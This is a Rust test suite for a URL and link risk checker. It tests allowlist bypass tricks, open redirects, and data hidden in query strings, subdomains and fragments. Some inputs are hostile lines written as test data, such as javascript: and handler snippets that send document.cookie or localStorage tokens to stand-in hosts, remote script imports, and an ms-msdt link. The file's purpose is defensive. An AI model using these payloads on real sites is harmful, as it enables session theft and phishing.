use cordon_core::HostPattern;

use super::*;

fn hosts(list: &[&str]) -> Hosts {
    Hosts::new([list.iter().map(|host| HostPattern::parse(host).unwrap()).collect()])
}

fn said(text: &str, place: Place, hosts: &Hosts) -> Said {
    judge(&Link { text: text.as_bytes(), same: text.len() + 1, place }, hosts)
}

#[test]
fn nothing_slips_a_list_of_hosts() {
    let listed = hosts(&["cdn.example.org", "*.img.example.org"]);
    for on in [
        "https://cdn.example.org/a.png",
        "https://cdn.example.org",
        "HTTPS://CDN.Example.ORG/a.png?w=640",
        "//cdn.example.org/a.png",
        "https://cdn.example.org:8443/a.png",
        "http://a.img.example.org?x=1#y",
        "/a.png",
        "a.png",
        "#top",
        "mailto:ana@example.org",
    ] {
        assert_eq!(said(on, Place::Loaded, &listed), None, "{on}");
    }
    for off in [
        "https://evil.example/a.png",
        "https://img.example.org/a.png",
        "https://cdn.example.org.evil.example/a.png",
        "https://cdn.example.org@evil.example/a.png",
        "https://cdn.example.org:443@evil.example/",
        "https://evil.example\\@cdn.example.org/",
        "https://evil.example#@cdn.example.org/",
        "https://evil.example?@cdn.example.org/",
        "https:\\\\evil.example\\a.png",
        "https:/evil.example/a.png",
        "https:evil.example/a.png",
        "https:///evil.example/a.png",
        "//evil.example/a.png",
        "\\\\evil.example/a.png",
        "/\\evil.example/a.png",
        "hTTps://evil.example/a.png",
        "https://ev\nil.example/a.png",
        "ht\ttps://evil.example/a.png",
        "https://cdn%2eexample%2eorg/a.png",
        "https://cdn.example.org%2f@evil.example/a.png",
        "https://cdn.example.org%00.evil.example/",
        "https://cdn.exampl\u{435}.org/",
        "https://xn--cdn-.example.org/",
        "https://cdn.example.org./a.png",
        "https://2130706433/a.png",
        "https://[::1]/a.png",
        "https://user@cdn.example.org/a.png",
        "https://cdn.example.org:@evil.example/",
        "wss://evil.example/",
        "ftp://evil.example/a.png",
    ] {
        let (_, percent) =
            said(off, Place::Loaded, &listed).unwrap_or_else(|| panic!("{off} slips the list"));
        assert!(percent >= 80, "{off}: {percent}");
        let (_, percent) = said(off, Place::Clicked, &listed).unwrap();
        assert!(percent >= 60, "{off}: {percent}");
    }
    // What folding changed of the host is not what the list says.
    let text = b"https://cdn.example.org/a.png";
    for same in [0, 8, 23] {
        assert!(judge(&Link { text, same, place: Place::Loaded }, &listed).is_some(), "{same}");
    }
    assert_eq!(judge(&Link { text, same: 24, place: Place::Loaded }, &listed), None);
}

#[test]
fn hosts_on_a_list_that_lead_on_are_named() {
    let listed = hosts(&["cdn.example.org"]);
    for on in [
        "https://cdn.example.org/r?to=https://evil.example/x",
        "https://cdn.example.org/r?to=//evil.example",
        "https://cdn.example.org/https://evil.example/a.png",
    ] {
        assert_eq!(said(on, Place::Clicked, &listed), Some((LINK, 75)), "{on}");
    }
    for fine in [
        "https://cdn.example.org/r?to=https://cdn.example.org/x",
        "https://cdn.example.org/a//b",
        "https://cdn.example.org/r?next=/home",
    ] {
        assert_eq!(said(fine, Place::Clicked, &listed), None, "{fine}");
    }
}

#[test]
fn redirects_and_proxies_on_a_list_are_named_however_they_are_written() {
    let listed = hosts(&["cdn.example.org", "*.shop.example.org"]);
    for on in [
        "https://cdn.example.org/r?url=https://evil.example",
        "https://cdn.example.org/r?redirectTo=//evil.example",
        "https://cdn.example.org/r?redirect_uri=https:evil.example",
        "https://cdn.example.org/r?next=https:/evil.example/x",
        "https://cdn.example.org/r?next=\\\\evil.example",
        "https://cdn.example.org/r?next=/\\evil.example",
        "https://cdn.example.org/img?src=http://localhost/a.png",
    ] {
        assert_eq!(said(on, Place::Clicked, &listed), Some((LINK, 75)), "{on}");
        assert_eq!(said(on, Place::Loaded, &listed), Some((LOADED, 75)), "{on}");
    }
    for dotted in [
        "https://cdn.example.org/r?a=1&URL=evil.example/x",
        "https://cdn.example.org/r?u=evil.example",
        "https://cdn.example.org/r?redirectTo=evil.example",
        "https://cdn.example.org/r?return-url=evil.com",
        "https://cdn.example.org/r?rurl=evil.com",
        "https://cdn.example.org/img?src=10.0.0.5:8080/a.png",
        "https://cdn.example.org/img#to=evil.example",
        "https://cdn.example.org/proxy?fetch=cdn.example.org.evil.example/a.png",
    ] {
        assert_eq!(said(dotted, Place::Clicked, &listed), Some((LINK, 60)), "{dotted}");
        assert_eq!(said(dotted, Place::Loaded, &listed), Some((LOADED, 60)), "{dotted}");
    }
    for fine in [
        "https://cdn.example.org/r?url=https://www.shop.example.org/x",
        "https://cdn.example.org/r?url=www.shop.example.org",
        "https://cdn.example.org/img?src=photo.png",
        "https://cdn.example.org/img?src=/2026/photo.png&w=640",
        "https://cdn.example.org/img?image=team/ana.jpg",
        "https://cdn.example.org/login?next=/account/orders.html",
        "https://cdn.example.org/login?next=home",
        "https://cdn.example.org/x?ref=evil.example&v=1.2.3",
        "https://cdn.example.org/x?to=2026-03-01&source=newsletter",
        "https://cdn.example.org/x?src=main.rs",
        "https://cdn.example.org/x?source=App.tsx",
        "https://cdn.example.org/x?image=photo.heic",
        "https://cdn.example.org/x?link=a.zip",
        "https://cdn.example.org/x?u=john.doe",
        "https://cdn.example.org/x?to=step.two",
        "https://cdn.example.org/x?source=v1.beta",
        "https://cdn.example.org/x?to=ana@example.org",
    ] {
        assert_eq!(said(fine, Place::Clicked, &listed), None, "{fine}");
        assert_eq!(said(fine, Place::Loaded, &listed), None, "{fine}");
    }
}

#[test]
fn a_list_lets_no_data_leave_unsaid() {
    let listed = hosts(&["cdn.example.org"]);
    for told in [
        "?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        "?w=640&d=546865207061737377642069732068756e74657232",
        "#VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        "?sig=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5k",
        "?sig=dGhlIHNpZ25hdHVyZSBvZiAzMiBieXRlcyBpcyB0aGlz&q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
    ] {
        let text = format!("https://cdn.example.org/p{told}");
        assert_eq!(said(&text, Place::Loaded, &listed), Some((LOADED, 55)), "{told}");
        assert_eq!(said(&text, Place::Defined, &listed), Some((LINK, 50)), "{told}");
        assert_eq!(said(&text, Place::Clicked, &listed), None, "{told}");
    }
    for ordinary in [
        "/app.3f2a9c1d.js?v=1.24.0",
        "/i/da39a3ee5e6b4b0d3255bfef95601890afd80709.png?width=640&quality=80&fit=crop",
        "/npm/vue@3.4.21/dist/vue.global.prod.js?integrity=da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "/a.png?s=9e107d9d372bb6826bd81d3542a419d6&auto=format,compress",
        "/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260301T102231Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "/a.png?sv=2024-05-04&se=2026-03-01T10:22:31Z&sr=b&sp=r&sig=k7Jf2Qm9XvB4zN1pR8sT6wY3uE5aH0cL2dG4iK6oM8E=",
        "/a.png?Expires=1767225600&Key-Pair-Id=K2JCJMDEHXQW5F&Signature=k7Jf2Qm9XvB4zN1pR8sT6wY3uE5aH0cL2dG4iK6oM8E",
        "/v1/550e8400-e29b-41d4-a716-446655440000/photo.jpg?token=550e8400-e29b-41d4-a716-446655440000",
        "/how-we-built-the-garden-behind-the-library-1234.png?utm_source=newsletter&utm_campaign=spring-sale",
    ] {
        let text = format!("https://cdn.example.org{ordinary}");
        for place in [Place::Loaded, Place::Defined, Place::Clicked] {
            assert_eq!(said(&text, place, &listed), None, "{ordinary}");
        }
    }
}

#[test]
fn signatures_and_digests_carry_no_more_than_they_need() {
    let listed = hosts(&["cdn.example.com"]);
    let encoded =
        |length: usize| "VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI4".chars().cycle().take(length).collect::<String>();
    let digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let google = "X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Date=20260301T102231Z&X-Goog-SignedHeaders=host";
    for told in [
        format!("x.png?sig={}", encoded(1024)),
        format!("x.png?s={}&hash={}&etag={}", encoded(512), encoded(512), encoded(1024)),
        format!("{}/x.png?s=aaaaaaaaaaaaaaaaaaaaaa", encoded(1000)),
        format!("x.png?s={}&hash={}", encoded(44), encoded(44)),
        format!("x.png?sig={}", encoded(344)),
        format!("{}/{}/x.png", encoded(64), encoded(64)),
        format!("x.png?{}", vec![format!("d={digest}"); 20].join("&")),
        format!("{}/x.png", [digest; 20].join("/")),
        format!("x.png?{google}&X-Goog-Signature={}&sig={}", encoded(512), encoded(44)),
    ] {
        let text = format!("https://cdn.example.com/{told}");
        assert_eq!(said(&text, Place::Loaded, &listed), Some((LOADED, 55)), "{text}");
    }
    for ordinary in [
        format!("x.png?sig={}", encoded(88)),
        format!("x.png?{google}&X-Goog-Signature={}", encoded(512)),
        format!("x.png?Policy=a&Key-Pair-Id=K2JCJMDEHXQW5F&Signature={}", encoded(344)),
        format!("{digest}/x.png?v={digest}&sig={digest}"),
    ] {
        let text = format!("https://cdn.example.com/{ordinary}");
        assert_eq!(said(&text, Place::Loaded, &listed), None, "{text}");
    }
}

#[test]
fn without_a_list_what_is_carried_counts() {
    let none = Hosts::default();
    for (text, place, expected) in [
        ("https://evil.example/p?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI", Place::Loaded, Some((LOADED, 85))),
        ("https://evil.example/p?q=the card of ana is red", Place::Loaded, Some((LOADED, 75))),
        ("https://evil.example/p#VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI", Place::Loaded, Some((LOADED, 85))),
        ("https://VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI@evil.example/", Place::Loaded, Some((LOADED, 85))),
        ("https://krugkidqmfzxg53pnzsca2ltebuhk3tumvzde.evil.example/", Place::Loaded, Some((LOADED, 85))),
        ("https://img.example.org/logo.svg", Place::Loaded, Some((LOADED, 30))),
        ("https://img.example.org/logo.svg?style=flat&branch=main", Place::Loaded, Some((LOADED, 30))),
        ("https://evil.example/p?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI", Place::Clicked, Some((LINK, 30))),
        ("https://search.example/?q=how to prune an old apple tree", Place::Clicked, None),
        ("https://example.org/page", Place::Clicked, None),
        ("https://bank.example@evil.example/", Place::Clicked, Some((LINK, 80))),
        ("https://2130706433/", Place::Bare, Some((LINK, 65))),
        ("http://127.0.0.1:8080/", Place::Bare, None),
        ("data:text/html;base64,PHNjcmlwdD4", Place::Clicked, Some((DATA, 80))),
        ("DATA: text/html,<script>", Place::Loaded, Some((DATA, 80))),
        ("data:image/png;base64,iVBORw0KGgo", Place::Loaded, None),
        ("data:image/svg+xml,<svg onload=x>", Place::Loaded, Some((DATA, 80))),
        ("javascript:fetch('//evil.example/'+document.cookie)", Place::Clicked, Some((SCRIPT, 85))),
        ("java\nscript:alert(1)", Place::Clicked, Some((SCRIPT, 85))),
        ("javascript:void(0)", Place::Clicked, None),
        ("alert(document.domain)", Place::Handler, Some((SCRIPT, 60))),
        ("this.src='fallback.png'", Place::Handler, None),
        ("save(); return false;", Place::Handler, None),
        ("location='https://e.example/?c='+localStorage.token", Place::Handler, Some((SCRIPT, 85))),
        ("import('//e.example/x.js')", Place::Handler, Some((SCRIPT, 70))),
        ("<script>alert(1)</script>", Place::Page, Some((SCRIPT, 75))),
        ("<p>hello</p>", Place::Page, None),
        ("ms-msdt:/id PCWDiagnostic", Place::Clicked, Some((LINK, 60))),
        ("file://10.0.0.7/share/x.png", Place::Loaded, Some((LOADED, 60))),
        ("javascript: a language", Place::Bare, None),
        ("images/garden.png", Place::Loaded, None),
    ] {
        assert_eq!(said(text, place, &none), expected, "{text}");
    }
}
